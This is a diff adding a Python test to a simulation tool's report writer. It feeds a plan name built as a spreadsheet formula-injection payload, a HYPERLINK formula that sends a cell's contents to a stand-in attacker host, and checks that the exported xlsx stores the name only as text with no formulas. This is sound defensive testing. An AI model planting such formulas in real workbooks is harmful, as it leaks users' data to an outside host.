@@ -274,3 +274,35 @@ def test_report_with_national_context(tmp_path):
     )
     text = out.read_text()
     assert "England as a whole" in text and "of the 44 footprints" in text
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+
+
+def test_user_typed_text_in_a_workbook_is_text_never_a_formula(tmp_path):
+    """Issue 20, item 1: a plan named like a formula is written to every sheet as text. The
+    workbook's XML holds no formula at all, and the name reads back exactly."""
+    import zipfile
+
+    import openpyxl
+
+    p = plan.load(EXAMPLES / "greater_manchester.yaml")
+    p = p.model_copy(update={"name": HOSTILE, "monte_carlo": p.monte_carlo.model_copy(update={"draws": 20})})
+    path = report.write(stpsim.run(p), tmp_path / "r.xlsx", fmt="xlsx")
+    with zipfile.ZipFile(path) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            assert "<f>" not in z.read(name).decode("utf-8"), f"a formula in {name}"
+    wb = openpyxl.load_workbook(path)
+    found = [
+        c
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "evil" in c.value
+    ]
+    assert found, "the plan's name is in the workbook"
+    for c in found:
+        assert c.data_type == "s" and HOSTILE in c.value
+    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
